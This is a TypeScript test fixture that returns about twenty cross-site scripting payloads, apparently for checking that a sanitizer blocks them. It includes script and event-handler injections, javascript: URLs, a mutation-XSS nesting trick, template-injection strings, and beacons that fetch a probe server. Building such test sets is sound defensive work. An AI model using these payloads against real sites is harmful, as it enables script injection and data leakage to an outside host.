/** Texts that run a script where a page takes them for markup or for an address. `probe`: a server that none of them may reach. */
export const payloads = (probe: string): readonly string[] => {
  const run = `window.ran=1;fetch('${probe}/ran')`;
  return [
    `<script>${run}</script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}">`,
    `"><script>${run}</script>`,
    `'><img src=x onerror="${run}">`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<iframe src="javascript:parent.ran=1"></iframe>`,
    `<a href="javascript:${run}">Click</a>`,
    `javascript:${run}`,
    `<details open ontoggle="${run}">x</details>`,
    `<body onload="${run}">`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<meta http-equiv="refresh" content="0;url=${probe}/refreshed">`,
    `<base href="${probe}/"><link rel="stylesheet" href="${probe}/style.css">`,
    `<style>@import url(${probe}/style.css);*{background:url(${probe}/picture)}</style>`,
    `<form action="${probe}/sent"><input name=q autofocus onfocus="${run}"></form>`,
    `{{constructor.constructor('${run.replaceAll("'", '"')}')()}}\${${run}}`,
    `<object data="javascript:${run}"></object><embed src="${probe}/embedded">`,
  ];
};
